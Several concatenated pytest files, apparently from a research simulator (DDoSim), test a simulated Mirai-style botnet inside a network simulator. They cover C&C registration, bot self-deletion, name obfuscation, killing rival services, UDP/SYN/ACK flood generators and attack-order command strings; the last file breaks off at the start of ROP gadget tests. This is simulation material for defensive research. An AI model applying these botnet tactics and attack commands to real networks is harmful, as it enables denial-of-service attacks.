    def test_slides_recorded_per_victim(self, run):
        ddosim, _result = run
        attacker = ddosim.attacker
        assert len(attacker.dns_slides) + len(attacker.dhcp_slides) == 6

    def test_telnet_console_controls_cnc(self, run):
        ddosim, _result = run
        reply = ddosim.attacker.cnc.console_handler("status")
        assert "bots=6" in reply

    def test_exploit_budget_limits_infections(self):
        ddosim = DDoSim(small_config(n_devs=5, recruit_timeout=20.0))
        ddosim.attacker.max_initial_infections = 2
        result = ddosim.run()
        assert result.recruitment.bots_recruited == 2
