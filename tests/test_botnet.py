"""Tests for the Mirai model: bot behaviours, C&C, attacks, scanner."""

import pytest

from repro.binaries.busybox import (
    make_dropbear_binary,
    make_qbot_binary,
    make_telnetd_binary,
)
from repro.botnet.attacks import AttackStats, udp_plain_flood
from repro.botnet.bot import make_mirai_binary
from repro.botnet.cnc import CncServer
from repro.netsim.node import Node
from repro.netsim.process import SimProcess
from repro.netsim.sink import PacketSink
from tests.helpers import MiniNet


def make_cnc_host(mininet, name="cnc-host"):
    cnc = CncServer()
    container, node, _ = mininet.host_container(
        name,
        rate_bps=10e6,
        files={"/usr/sbin/cnc": (b"\x7fcnc", 0o755, cnc.program())},
    )
    container.exec_run(["/usr/sbin/cnc"])
    return cnc, node


def make_bot_host(mininet, cnc_node, name="bot-host", extra_files=None,
                  rate_bps=300e3):
    mirai = make_mirai_binary()
    files = {"/tmp/.mirai": (mirai.serialize(), 0o755)}
    files.update(extra_files or {})
    container, node, link = mininet.host_container(name, rate_bps=rate_bps, files=files)
    cnc_address = mininet.star.address_of(cnc_node)
    process = container.exec_run(["/tmp/.mirai", str(cnc_address), "23"])
    return container, node, process


class TestBotBehaviour:
    def test_bot_registers_with_cnc(self):
        mininet = MiniNet()
        cnc, cnc_node = make_cnc_host(mininet)
        make_bot_host(mininet, cnc_node)
        mininet.sim.run(until=20.0)
        assert cnc.bot_count() == 1
        assert cnc.connected_bots()[0].architecture == "x86_64"

    def test_bot_obfuscates_name(self):
        mininet = MiniNet()
        _cnc, cnc_node = make_cnc_host(mininet)
        container, _node, process = make_bot_host(mininet, cnc_node)
        mininet.sim.run(until=20.0)
        assert process.name != "mirai"
        assert len(process.name) == 10

    def test_bot_deletes_own_binary(self):
        mininet = MiniNet()
        _cnc, cnc_node = make_cnc_host(mininet)
        container, _node, _process = make_bot_host(mininet, cnc_node)
        mininet.sim.run(until=20.0)
        assert not container.fs.exists("/tmp/.mirai")

    def test_bot_kills_port_binders_and_rivals(self):
        mininet = MiniNet()
        _cnc, cnc_node = make_cnc_host(mininet)
        extra = {
            "/usr/sbin/telnetd": (make_telnetd_binary().serialize(), 0o755),
            "/usr/sbin/dropbear": (make_dropbear_binary().serialize(), 0o755),
            "/usr/sbin/qbot": (make_qbot_binary().serialize(), 0o755),
        }
        container, _node, _process = make_bot_host(
            mininet, cnc_node, extra_files=extra
        )
        # Pre-start the services before the bot fortifies (the bot's exec
        # happens at t=0, so re-exec the services first via direct calls).
        mininet.sim.run(until=0.0)
        container.exec_run(["/usr/sbin/telnetd"])
        container.exec_run(["/usr/sbin/dropbear"])
        container.exec_run(["/usr/sbin/qbot"])
        # Restart a fresh bot so fortification sees the running services.
        bot = container.exec_run(["/bin/sh", "-c", "echo"])  # placeholder tick
        mininet.sim.run(until=1.0)
        mirai = make_mirai_binary()
        container.fs.write_file("/tmp/.m2", mirai.serialize(), mode=0o755)
        container.exec_run(
            ["/tmp/.m2", str(mininet.star.address_of(cnc_node)), "23"]
        )
        mininet.sim.run(until=20.0)
        assert container.find_processes("telnetd") == []
        assert container.find_processes("dropbear") == []
        assert container.find_processes("qbot") == []

    def test_bot_reconnects_after_link_flap(self):
        mininet = MiniNet()
        cnc, cnc_node = make_cnc_host(mininet)
        container, node, _process = make_bot_host(mininet, cnc_node)
        mininet.sim.run(until=20.0)
        assert cnc.bot_count() == 1
        mininet.star.set_host_up(node, False)
        mininet.sim.run(until=200.0)  # retries exhaust, C&C reaps the bot
        assert cnc.bot_count() == 0
        mininet.star.set_host_up(node, True)
        mininet.sim.run(until=400.0)
        assert cnc.bot_count() == 1
        # Distinct-recruit accounting does not double count reconnects.
        assert len(cnc.seen_addresses) == 1
        assert cnc.total_registrations == 2

    def test_bot_without_args_exits(self):
        mininet = MiniNet()
        mirai = make_mirai_binary()
        container, _node, _ = mininet.host_container(
            "b", files={"/tmp/.mirai": (mirai.serialize(), 0o755)}
        )
        process = container.exec_run(["/tmp/.mirai"])
        mininet.sim.run(until=2.0)
        assert process.exited


class TestAttackDispatch:
    def _botnet(self, n_bots=2):
        mininet = MiniNet()
        cnc, cnc_node = make_cnc_host(mininet)
        target = Node(mininet.sim, "target")
        mininet.star.attach_host(target, 5e6)
        sink = PacketSink(target)
        sink.start()
        for index in range(n_bots):
            make_bot_host(mininet, cnc_node, name=f"bot{index}")
        mininet.sim.run(until=20.0)
        assert cnc.bot_count() == n_bots
        return mininet, cnc, target, sink

    def test_udpplain_order_floods_target(self):
        mininet, cnc, target, sink = self._botnet()
        order = cnc.issue_attack(
            str(mininet.star.address_of(target)), 7777, duration=10.0,
            payload_size=512,
        )
        assert order.bots_commanded == 2
        mininet.sim.run(until=60.0)
        assert sink.total_packets > 50
        assert sink.distinct_sources() == 2

    def test_ping_pong_keepalive(self):
        mininet, cnc, _target, _sink = self._botnet(n_bots=1)
        record = cnc.connected_bots()[0]
        before = record.last_seen
        cnc.broadcast("PING")
        mininet.sim.run(until=30.0)
        assert record.last_seen > before

    def test_stop_command_halts_attack(self):
        mininet, cnc, target, sink = self._botnet(n_bots=1)  # now t=20
        cnc.issue_attack(str(mininet.star.address_of(target)), 7777, duration=100.0)
        mininet.sim.run(until=30.0)
        assert sink.total_packets > 0
        cnc.broadcast("STOP")
        mininet.sim.run(until=32.0)  # STOP propagates
        count_after_stop = sink.total_packets
        mininet.sim.run(until=60.0)
        assert sink.total_packets <= count_after_stop + 2  # in-flight only

    def test_console_commands(self):
        mininet, cnc, target, _sink = self._botnet(n_bots=2)
        assert "2 bots connected" in cnc.console_handler("bots")
        reply = cnc.console_handler(
            f"udpplain {mininet.star.address_of(target)} 7777 5"
        )
        assert "attack sent to 2 bots" in reply
        assert "bots=2" in cnc.console_handler("status")
        assert "unknown command" in cnc.console_handler("frobnicate")
        assert "usage:" in cnc.console_handler("udpplain onlyone")

    def test_wait_for_bots_future(self):
        mininet = MiniNet()
        cnc, cnc_node = make_cnc_host(mininet)
        mininet.sim.run(until=1.0)
        future = cnc.wait_for_bots(2)
        assert not future.done
        for index in range(2):
            make_bot_host(mininet, cnc_node, name=f"late{index}")
        mininet.sim.run(until=30.0)
        assert future.done
        assert future.value == 2

    def test_standing_order_reaches_late_bot(self):
        mininet = MiniNet()
        cnc, cnc_node = make_cnc_host(mininet)
        mininet.sim.run(until=5.0)
        cnc.standing_orders.append("PING")  # any standing line works
        container, _node, process = make_bot_host(mininet, cnc_node, name="late")
        mininet.sim.run(until=30.0)
        record = cnc.connected_bots()[0]
        assert record.last_seen > record.connected_at  # PONG came back


class TestFloodGenerators:
    def test_udp_plain_paces_at_link_rate(self, sim, two_hosts):
        node_a, node_b, star = two_hosts  # 1 Mbps links
        sink = PacketSink(node_b)
        sink.start()
        stats = AttackStats()
        flood = udp_plain_flood(
            node_a, star.address_of(node_b), 7777, duration=10.0,
            payload_size=500, stats=stats,
        )
        SimProcess(sim, flood, name="flood")
        sim.run(until=30.0)
        # Paced by wire size: 1 Mbps / ((500+48) B * 8) = 228 pkt/s for 10 s.
        assert 2200 <= stats.packets_sent <= 2300
        assert stats.duration == pytest.approx(10.0, abs=0.1)

    def test_explicit_rate_override(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        stats = AttackStats()
        flood = udp_plain_flood(
            node_a, star.address_of(node_b), 7777, duration=5.0,
            payload_size=500, rate_bps=43_840, stats=stats,
        )
        SimProcess(sim, flood, name="flood")
        sim.run(until=30.0)
        assert 45 <= stats.packets_sent <= 55  # 43840/(548*8)=10 pkt/s * 5 s

    def test_syn_flood_emits_raw_segments(self, sim, two_hosts):
        from repro.botnet.attacks import syn_flood

        node_a, node_b, star = two_hosts
        stats = AttackStats()
        SimProcess(
            sim,
            syn_flood(node_a, star.address_of(node_b), 80, duration=2.0,
                      rate_bps=80_000, stats=stats),
            name="syn",
        )
        sim.run(until=10.0)
        assert stats.packets_sent > 0
        # Victim answered with RSTs (no listener): the reflection signature.
        assert node_b.tcp.rst_sent > 0

    def test_ack_flood_runs(self, sim, two_hosts):
        from repro.botnet.attacks import ack_flood

        node_a, node_b, star = two_hosts
        stats = AttackStats()
        SimProcess(
            sim,
            ack_flood(node_a, star.address_of(node_b), 80, duration=1.0,
                      rate_bps=80_000, stats=stats),
            name="ack",
        )
        sim.run(until=10.0)
        assert stats.packets_sent > 0
