"""Fluid-flow datapath (repro.netsim.flows): analytic flood traffic.

The contract: a steady flood represented as a FluidFlow must account
bytes, packets, drops and spans *exactly in expectation* against the
packet path, re-solving only at rate-change epochs — while ``--flow
off`` keeps the packet datapath bit-identical to the seed.
"""

import json

import pytest

from repro.core import DDoSim, SimulationConfig
from repro.netsim.flows import (
    FLOW_MODES,
    FlowEngine,
    FlowPathError,
    resolve_path,
)
from repro.netsim.node import Node
from repro.netsim.simulator import Simulator
from repro.netsim.sink import PacketSink
from repro.netsim.topology import StarInternet
from repro.serialization import result_to_json

WIRE = 560  # 512 B payload + UDP 8 + IPv6 40


def _star(uplink_bps=1e6, downlink_bps=None, queue_packets=None):
    """sender -> router -> receiver star with a PacketSink listening."""
    sim = Simulator()
    star = StarInternet(sim)
    sender = Node(sim, "sender")
    receiver = Node(sim, "receiver")
    star.attach_host(sender, uplink_bps, delay=0.001)
    star.attach_host(receiver, 100e6, delay=0.001,
                     downlink_rate_bps=downlink_bps,
                     queue_packets=queue_packets)
    sink = PacketSink(receiver)
    sink.start()
    return sim, star, sender, receiver, sink


class TestResolvePath:
    def test_walks_host_router_host(self):
        sim, star, sender, receiver, _sink = _star()
        hops, final = resolve_path(sender, star.address_of(receiver))
        assert final is receiver
        assert len(hops) == 2
        assert hops[0] is star.links[sender].host_device
        assert hops[1] is star.links[receiver].router_device

    def test_no_route_raises(self):
        sim = Simulator()
        lonely = Node(sim, "lonely")
        other = Node(sim, "other")
        sim2, star, _s, receiver, _sink = _star()
        with pytest.raises(FlowPathError):
            resolve_path(lonely, star.address_of(receiver))

    def test_engine_rejects_off_mode(self):
        sim = Simulator()
        with pytest.raises(ValueError):
            FlowEngine(sim, mode="off")
        assert FLOW_MODES == ("off", "auto", "all")


class TestFluidSolver:
    def test_uncongested_flow_delivers_offered_bytes(self):
        sim, star, sender, receiver, sink = _star(uplink_bps=1e6)
        engine = FlowEngine(sim, mode="all")
        flow = engine.start_flow(sender, star.address_of(receiver), 7777, 9,
                                 rate_bps=1e6, payload_size=512,
                                 packet_size=WIRE)
        sim.schedule(10.0, engine.stop_flow, flow)
        sim.run(until=12.0)
        offered = 1e6 * 10.0 / 8.0
        assert flow.offered_bytes == pytest.approx(offered)
        # Everything fits: delivered equals offered minus sub-byte
        # quantization remainder.
        assert sink.total_bytes == pytest.approx(offered, abs=2.0)
        assert sink.total_packets == pytest.approx(offered / WIRE, abs=1.0)
        assert star.total_queue_drops() == 0
        # Three epochs: flow start, flow stop — plus none in between.
        assert engine.epochs <= 4

    def test_bottleneck_drops_excess_analytically(self):
        sim, star, sender, receiver, sink = _star(
            uplink_bps=1e6, downlink_bps=500e3, queue_packets=10,
        )
        engine = FlowEngine(sim, mode="all")
        flow = engine.start_flow(sender, star.address_of(receiver), 7777, 9,
                                 rate_bps=1e6, payload_size=512,
                                 packet_size=WIRE)
        sim.schedule(10.0, engine.stop_flow, flow)
        sim.run(until=12.0)
        # The 500 kbps bottleneck passes half; one queue of backlog
        # (10 x 560 B) survives as the fill transient.
        cap_bytes = 500e3 * 10.0 / 8.0
        assert sink.total_bytes == pytest.approx(cap_bytes, rel=0.02)
        dropped = star.total_queue_drops()
        expected_dropped = (flow.offered_bytes - cap_bytes - 10 * WIRE) / WIRE
        assert dropped == pytest.approx(expected_dropped, rel=0.02)
        assert flow.dropped_bytes == pytest.approx(dropped * WIRE, rel=0.02)

    def test_link_down_epoch_stops_delivery(self):
        sim, star, sender, receiver, sink = _star(uplink_bps=1e6)
        engine = FlowEngine(sim, mode="all")
        flow = engine.start_flow(sender, star.address_of(receiver), 7777, 9,
                                 rate_bps=1e6, payload_size=512,
                                 packet_size=WIRE)
        link = star.links[sender]
        sim.schedule(5.0, link.host_device.set_down)
        sim.schedule(10.0, engine.stop_flow, flow)
        sim.run(until=12.0)
        # Only the first 5 s of the flow arrives; the rest is counted
        # against the downed device exactly like packet-mode drops_down.
        half = 1e6 * 5.0 / 8.0
        assert sink.total_bytes == pytest.approx(half, abs=2.0)
        assert link.host_device.drops_down == pytest.approx(half / WIRE, abs=1.0)
        # The down transition re-linearized the solver.
        assert engine.epochs >= 3

    def test_rate_degrade_epoch_thins_delivery(self):
        sim, star, sender, receiver, sink = _star(uplink_bps=1e6)
        engine = FlowEngine(sim, mode="all")
        flow = engine.start_flow(sender, star.address_of(receiver), 7777, 9,
                                 rate_bps=1e6, payload_size=512,
                                 packet_size=WIRE)
        device = star.links[sender].host_device
        sim.schedule(5.0, device.override_data_rate, 250e3)
        sim.schedule(10.0, engine.stop_flow, flow)
        sim.run(until=12.0)
        # 5 s at the full 1 Mbps, then 5 s clamped to 250 kbps (the
        # degraded link's analytic pass fraction), plus <= one queue of
        # backlog drained as the residual flush.
        expected = (1e6 * 5.0 + 250e3 * 5.0) / 8.0
        backlog_allowance = 100 * WIRE
        assert expected <= sink.total_bytes <= expected + backlog_allowance

    def test_two_flows_share_bottleneck_proportionally(self):
        sim = Simulator()
        star = StarInternet(sim)
        fast = Node(sim, "fast")
        slow = Node(sim, "slow")
        receiver = Node(sim, "receiver")
        star.attach_host(fast, 2e6, delay=0.001)
        star.attach_host(slow, 1e6, delay=0.001)
        star.attach_host(receiver, 100e6, delay=0.001,
                         downlink_rate_bps=1.5e6, queue_packets=10)
        sink = PacketSink(receiver)
        sink.start()
        engine = FlowEngine(sim, mode="all")
        destination = star.address_of(receiver)
        flow_a = engine.start_flow(fast, destination, 7777, 9,
                                   rate_bps=2e6, payload_size=512,
                                   packet_size=WIRE)
        flow_b = engine.start_flow(slow, destination, 7777, 10,
                                   rate_bps=1e6, payload_size=512,
                                   packet_size=WIRE)
        sim.schedule(10.0, engine.stop_flow, flow_a)
        sim.schedule(10.0, engine.stop_flow, flow_b)
        sim.run(until=12.0)
        # 3 Mbps offered into a 1.5 Mbps bottleneck: half passes, and
        # the per-flow split follows the 2:1 demand ratio.
        assert sink.total_bytes == pytest.approx(1.5e6 * 10 / 8, rel=0.02)
        assert flow_a.delivered_bytes == pytest.approx(
            2 * flow_b.delivered_bytes, rel=0.05
        )
        sources = sink.per_source
        assert len(sources) == 2

    def test_sink_quantization_never_drifts(self):
        """Integer bin credits + persistent remainders: the histogram sum
        equals the sink's byte total exactly, whatever the segmentation."""
        sim, star, sender, receiver, sink = _star(uplink_bps=1e6)
        engine = FlowEngine(sim, mode="all")
        flow = engine.start_flow(sender, star.address_of(receiver), 7777, 9,
                                 rate_bps=123_457.0, payload_size=512,
                                 packet_size=WIRE)
        # Force many tiny awkward segments.
        for step in range(1, 40):
            sim.schedule(step * 0.137, engine.on_link_change)
        sim.schedule(7.0, engine.stop_flow, flow)
        sim.run(until=9.0)
        assert sum(sink.bytes_per_bin.values()) == sink.total_bytes
        assert sink.total_bytes == pytest.approx(flow.offered_bytes, abs=2.0)
        assert all(isinstance(v, int) for v in sink.bytes_per_bin.values())


class TestCrossoverModes:
    def _run(self, flow_mode):
        config = SimulationConfig(
            n_devs=3, seed=1, attack_duration=20.0, recruit_timeout=30.0,
            sim_duration=150.0, flood_flow=flow_mode,
        )
        ddosim = DDoSim(config)
        result = ddosim.run()
        return ddosim, result

    @pytest.fixture(scope="class")
    def packet_run(self):
        return self._run("off")

    def test_off_mode_is_byte_identical_to_default(self, packet_run):
        _ddosim, result = packet_run
        config = SimulationConfig(
            n_devs=3, seed=1, attack_duration=20.0, recruit_timeout=30.0,
            sim_duration=150.0,
        )
        baseline = DDoSim(config)
        assert result_to_json(baseline.run()) == result_to_json(result)

    @pytest.mark.parametrize("mode", ["all", "auto"])
    def test_flow_mode_matches_packet_mode_in_expectation(self, packet_run,
                                                          mode):
        _p_sim, p_result = packet_run
        f_sim, f_result = self._run(mode)
        assert f_result.attack.received_bytes == pytest.approx(
            p_result.attack.received_bytes, rel=0.02
        )
        assert f_result.attack.offered_bytes == pytest.approx(
            p_result.attack.offered_bytes, rel=0.02
        )
        # NetFlow records: same sources, comparable volumes.
        p_flows = _p_sim.tserver.sink.flow_records()
        f_flows = f_sim.tserver.sink.flow_records()
        assert [f["src"] for f in f_flows] == [f["src"] for f in p_flows]

    def test_all_mode_slashes_event_count(self, packet_run):
        _p_sim, p_result = packet_run
        f_sim, f_result = self._run("all")
        assert f_result.events_executed * 5 <= p_result.events_executed
        assert f_sim.flow_engine is not None
        assert f_sim.flow_engine.finished  # flows opened and closed

    def test_auto_mode_keeps_real_packets_at_sink(self):
        f_sim, _f_result = self._run("auto")
        sink = f_sim.tserver.sink
        # Crossover injection delivers genuine trains: the sink's fluid
        # quantization state stays untouched in auto mode.
        assert sink.total_packets > 0
        assert not sink._fluid

    def test_all_mode_double_run_is_deterministic(self):
        _a_sim, a_result = self._run("all")
        _b_sim, b_result = self._run("all")
        assert result_to_json(a_result) == result_to_json(b_result)

    def test_flow_mode_span_attribution_survives(self):
        from repro.obs import Observatory

        config = SimulationConfig(
            n_devs=2, seed=1, attack_duration=10.0, recruit_timeout=30.0,
            sim_duration=120.0, protection_profiles=((),),
            flood_flow="all",
        )
        ddosim = DDoSim(config, observatory=Observatory.full())
        ddosim.run()
        spans = ddosim.obs.spans
        assert spans.kinds()["attack.train"] == 2
        delivered = sum(span.packets_delivered for span in spans.spans())
        assert delivered > 0

    def test_flow_knob_changes_cache_key(self):
        from repro.serialization import config_to_canonical_json

        base = SimulationConfig(n_devs=3, seed=1)
        fluid = SimulationConfig(n_devs=3, seed=1, flood_flow="all")
        assert config_to_canonical_json(base) != config_to_canonical_json(fluid)
        assert json.loads(config_to_canonical_json(fluid))["flood_flow"] == "all"

    def test_invalid_flow_mode_rejected(self):
        with pytest.raises(ValueError):
            SimulationConfig(n_devs=1, flood_flow="fluid")
