"""Packet-train datapath: exact per-packet accounting in batched form.

The contract: a train of K packets is one scheduled unit everywhere, yet
every counter (queue occupancy, drops, device/link/sink bytes and
packets) reads exactly as if K individual packets had flowed — and with
K=1 the datapath is bit-identical to the per-packet seed behaviour.
"""

import pytest
from hypothesis import given, settings, strategies as st

from repro.netsim.address import Ipv6Address
from repro.netsim.channel import PointToPointChannel
from repro.netsim.headers import UdpHeader
from repro.netsim.netdevice import PointToPointDevice
from repro.netsim.node import Node
from repro.netsim.packet import Packet, PacketTrain
from repro.netsim.queues import DropTailQueue
from repro.netsim.simulator import Simulator
from repro.netsim.sink import PacketSink
from repro.netsim.topology import StarInternet


class TestPacketSizeCache:
    def test_size_tracks_header_pushes_and_pops(self):
        packet = Packet(payload_size=100)
        assert packet.size == 100
        packet.add_header(UdpHeader(1, 2))
        assert packet.size == 108
        packet.remove_header(UdpHeader)
        assert packet.size == 100

    def test_copy_carries_cached_size(self):
        packet = Packet(payload_size=64)
        packet.add_header(UdpHeader(1, 2))
        clone = packet.copy()
        assert clone.size == packet.size == 72

    def test_plain_packet_counts_one(self):
        packet = Packet(payload_size=10)
        assert packet.count == 1
        assert packet.spacing == 0.0
        assert packet.total_size == 10


class TestPacketTrain:
    def test_total_size_multiplies(self):
        train = PacketTrain(512, 8)
        train.add_header(UdpHeader(1, 2))
        assert train.size == 520
        assert train.total_size == 520 * 8

    def test_rejects_empty_train(self):
        with pytest.raises(ValueError):
            PacketTrain(512, 0)

    def test_copy_preserves_count_and_spacing(self):
        train = PacketTrain(100, 4)
        train.spacing = 0.25
        clone = train.copy()
        assert clone.count == 4 and clone.spacing == 0.25


class TestQueueTrainAccounting:
    def test_train_consumes_member_slots(self):
        queue = DropTailQueue(max_packets=10)
        assert queue.enqueue(PacketTrain(100, 7))
        assert len(queue) == 7
        assert queue.bytes_queued == 700

    def test_partial_train_is_split_and_tail_dropped(self):
        queue = DropTailQueue(max_packets=10)
        assert queue.enqueue(PacketTrain(100, 8))
        assert queue.enqueue(PacketTrain(100, 8))  # only 2 of 8 fit
        assert len(queue) == 10
        assert queue.dropped == 6
        head = queue.dequeue()
        tail = queue.dequeue()
        assert head.count == 8 and tail.count == 2

    def test_full_queue_drops_whole_train(self):
        queue = DropTailQueue(max_packets=4)
        assert queue.enqueue(PacketTrain(100, 4))
        assert not queue.enqueue(PacketTrain(100, 5))
        assert queue.dropped == 5

    def test_byte_capacity_splits_train(self):
        queue = DropTailQueue(max_packets=100, max_bytes=250)
        assert queue.enqueue(PacketTrain(100, 4))  # 2 of 4 fit by bytes
        assert len(queue) == 2
        assert queue.bytes_queued == 200
        assert queue.dropped == 2

    def test_dequeue_restores_capacity(self):
        queue = DropTailQueue(max_packets=8)
        queue.enqueue(PacketTrain(50, 8))
        queue.dequeue()
        assert len(queue) == 0
        assert queue.enqueue(Packet(payload_size=50))


def _run_flood(train, packets=240, rate=1e6):
    """Burst ``packets`` over a single-hop link; returns
    (sim, sink, sender_device).

    Single-hop because a train crosses each store-and-forward hop as one
    unit: the sink backs the last serialization out of member arrival
    times, so per-member timing is exact over one hop and shifts by
    ``(K-1) * tx_delay`` per additional hop.  Deep queues keep the burst
    drop-free — equivalence is only exact when every packet survives.
    """
    sim = Simulator()
    sender = Node(sim, "sender")
    receiver = Node(sim, "receiver")
    channel = PointToPointChannel(sim, delay=0.002)
    dev_s = PointToPointDevice(sim, rate, DropTailQueue(512), name="s-eth0")
    dev_r = PointToPointDevice(sim, rate, DropTailQueue(512), name="r-eth0")
    sender.add_device(dev_s)
    receiver.add_device(dev_r)
    channel.attach(dev_s)
    channel.attach(dev_r)
    src = Ipv6Address.parse("fd00::1")
    destination = Ipv6Address.parse("fd00::2")
    sender.ip.add_address(dev_s, src)
    receiver.ip.add_address(dev_r, destination)
    sender.ip.add_route(destination, dev_s)
    sink = PacketSink(receiver)
    sink.start()
    if train == 1:
        for _ in range(packets):
            sender.udp.send_datagram(
                None, destination, 7777, src_port=9, payload_size=512
            )
    else:
        for _ in range(packets // train):
            sender.udp.send_train(
                destination, 7777, train, src_port=9, payload_size=512
            )
    sim.run()
    return sim, sink, dev_s


class TestTrainEquivalence:
    def test_sink_totals_match_per_packet_path(self):
        _sim1, sink1, dev1 = _run_flood(train=1)
        _simk, sinkk, devk = _run_flood(train=8)
        assert sinkk.total_packets == sink1.total_packets == 240
        assert sinkk.total_bytes == sink1.total_bytes
        assert devk.tx_packets == dev1.tx_packets
        assert devk.tx_bytes == dev1.tx_bytes

    def test_rate_bins_match_per_packet_path(self):
        _sim1, sink1, _ = _run_flood(train=1)
        _simk, sinkk, _ = _run_flood(train=8)
        assert dict(sinkk.bytes_per_bin) == dict(sink1.bytes_per_bin)

    def test_arrival_window_matches(self):
        _sim1, sink1, _ = _run_flood(train=1)
        _simk, sinkk, _ = _run_flood(train=8)
        assert sinkk.first_packet_time == pytest.approx(sink1.first_packet_time)
        assert sinkk.last_packet_time == pytest.approx(sink1.last_packet_time)

    def test_trains_collapse_scheduled_events(self):
        sim1, _, _ = _run_flood(train=1)
        simk, _, _ = _run_flood(train=8)
        assert simk.events_executed * 3 < sim1.events_executed

    def test_per_source_accounting_matches(self):
        _sim1, sink1, _ = _run_flood(train=1)
        _simk, sinkk, _ = _run_flood(train=8)
        assert {
            (str(addr), port): tuple(entry)
            for (addr, port), entry in sinkk.per_source.items()
        } == {
            (str(addr), port): tuple(entry)
            for (addr, port), entry in sink1.per_source.items()
        }

    def test_multihop_counts_match_exactly(self):
        """Across the star's router, member timing shifts but every
        counter (packets, bytes, per-source) still matches per-packet."""

        def run(train):
            sim = Simulator()
            star = StarInternet(sim)
            sender = Node(sim, "sender")
            receiver = Node(sim, "receiver")
            star.attach_host(sender, 1e6, delay=0.002, queue_packets=512)
            star.attach_host(receiver, 1e6, delay=0.002, queue_packets=512)
            sink = PacketSink(receiver)
            sink.start()
            destination = star.address_of(receiver)
            for _ in range(240 // train):
                if train == 1:
                    sender.udp.send_datagram(
                        None, destination, 7777, src_port=9, payload_size=512
                    )
                else:
                    sender.udp.send_train(
                        destination, 7777, train, src_port=9, payload_size=512
                    )
            sim.run()
            return sink

        sink1 = run(1)
        sinkk = run(8)
        assert sinkk.total_packets == sink1.total_packets == 240
        assert sinkk.total_bytes == sink1.total_bytes
        assert sum(sinkk.bytes_per_bin.values()) == sum(sink1.bytes_per_bin.values())


class TestFloodGeneratorTrains:
    def test_udp_plain_flood_train_paces_same_rate(self):
        from repro.botnet.attacks import AttackStats, udp_plain_flood
        from repro.netsim.process import SimProcess

        def build(train):
            sim = Simulator()
            star = StarInternet(sim)
            bot = Node(sim, "bot")
            tserver = Node(sim, "tserver")
            star.attach_host(bot, 250e3, delay=0.002)
            star.attach_host(tserver, 30e6, delay=0.002)
            sink = PacketSink(tserver)
            sink.start()
            stats = AttackStats()
            flood = udp_plain_flood(
                bot, star.address_of(tserver), 7777, duration=20.0,
                payload_size=512, stats=stats, src_port=4000, train=train,
            )
            SimProcess(sim, flood, name="flood")
            sim.run(until=40.0)
            return stats, sink

        stats1, sink1 = build(1)
        statsk, sinkk = build(8)
        # Same paced wire rate: equal bytes out per unit time (trains may
        # round the packet count to a multiple of K).
        assert statsk.bytes_sent == pytest.approx(stats1.bytes_sent, rel=0.05)
        assert sinkk.total_bytes == pytest.approx(sink1.total_bytes, rel=0.05)
        assert statsk.packets_sent % 8 == 0

    def test_attack_order_carries_train_argument(self):
        from repro.botnet.cnc import CncServer

        cnc = CncServer.__new__(CncServer)
        cnc.attack_orders = []
        cnc.standing_orders = []
        cnc._sim = None
        sent_lines = []
        cnc.broadcast = sent_lines.append  # type: ignore[assignment]
        cnc.issue_attack("fd00::1", 7777, 30.0, 512, train=16)
        assert sent_lines == ["ATTACK udpplain fd00::1 7777 30 512 16"]
        cnc.issue_attack("fd00::1", 7777, 30.0, 512)
        assert sent_lines[-1] == "ATTACK udpplain fd00::1 7777 30 512"

    def test_attack_order_flow_token_rides_after_train(self):
        """flow != off always pins the train slot so positions are fixed;
        flow == off keeps the exact pre-fluid wire format."""
        from repro.botnet.cnc import CncServer

        cnc = CncServer.__new__(CncServer)
        cnc.attack_orders = []
        cnc.standing_orders = []
        cnc._sim = None
        sent_lines = []
        cnc.broadcast = sent_lines.append  # type: ignore[assignment]
        cnc.issue_attack("fd00::1", 7777, 30.0, 512, flow="all")
        assert sent_lines[-1] == "ATTACK udpplain fd00::1 7777 30 512 1 all"
        cnc.issue_attack("fd00::1", 7777, 30.0, 512, train=8, flow="auto")
        assert sent_lines[-1] == "ATTACK udpplain fd00::1 7777 30 512 8 auto"
        cnc.issue_attack("fd00::1", 7777, 30.0, 512, train=8, flow="off")
        assert sent_lines[-1] == "ATTACK udpplain fd00::1 7777 30 512 8"


class TestTrainBinReconstructionProperty:
    """Satellite: a K-train's ``bytes_per_bin`` equals K=1 packets
    bit-for-bit, including at bin boundaries.

    The sink reconstructs each member's arrival from the train's stamped
    serialization spacing; this drives the reconstruction across
    arbitrary (K, payload, bin width) combinations — narrow bins force
    trains to straddle boundaries — and demands exact dict equality.
    """

    @staticmethod
    def _bins(train: int, payload: int, bin_width: float, packets: int):
        sim = Simulator()
        sender = Node(sim, "sender")
        receiver = Node(sim, "receiver")
        channel = PointToPointChannel(sim, delay=0.002)
        dev_s = PointToPointDevice(sim, 1e6, DropTailQueue(1024), name="s")
        dev_r = PointToPointDevice(sim, 1e6, DropTailQueue(1024), name="r")
        sender.add_device(dev_s)
        receiver.add_device(dev_r)
        channel.attach(dev_s)
        channel.attach(dev_r)
        src = Ipv6Address.parse("fd00::1")
        destination = Ipv6Address.parse("fd00::2")
        sender.ip.add_address(dev_s, src)
        receiver.ip.add_address(dev_r, destination)
        sender.ip.add_route(destination, dev_s)
        sink = PacketSink(receiver, bin_width=bin_width)
        sink.start()
        if train == 1:
            for _ in range(packets):
                sender.udp.send_datagram(
                    None, destination, 7777, src_port=9, payload_size=payload
                )
        else:
            for _ in range(packets // train):
                sender.udp.send_train(
                    destination, 7777, train, src_port=9, payload_size=payload
                )
        sim.run()
        assert sink.total_packets == packets
        return dict(sink.bytes_per_bin)

    @given(
        st.integers(min_value=2, max_value=16),
        st.integers(min_value=64, max_value=1024),
        st.sampled_from([0.01, 0.025, 0.1, 1.0]),
    )
    @settings(max_examples=25, deadline=None)
    def test_train_bins_equal_per_packet_bins_bit_for_bit(
        self, train, payload, bin_width
    ):
        packets = train * 6
        assert self._bins(train, payload, bin_width, packets) == \
            self._bins(1, payload, bin_width, packets)
