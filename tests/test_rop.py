"""Unit tests for ROP: gadget discovery, chain building, interpretation,
and the mitigation behaviours (W^X, ASLR) the paper's attack model assumes."""

import random

import pytest

from repro.memsafety.layout import standard_process_layout
from repro.memsafety.rop import (
    ALL_OPS,
    ChainBuilder,
    ChainInterpreter,
    GadgetTable,
    STR_TAG,
    pack_qword,
)
from repro.memsafety.stack import StackFrame


TEXT_BASE = 0x400000


@pytest.fixture
def gadgets():
    return GadgetTable.discover(build_seed=77, text_base=TEXT_BASE)


def interpreter(gadgets, slide=0, wx=True):
    space = standard_process_layout(TEXT_BASE + slide, wx_enforced=wx)
    return ChainInterpreter(gadgets, slide, space)


class TestGadgetTable:
    def test_discovery_is_deterministic(self):
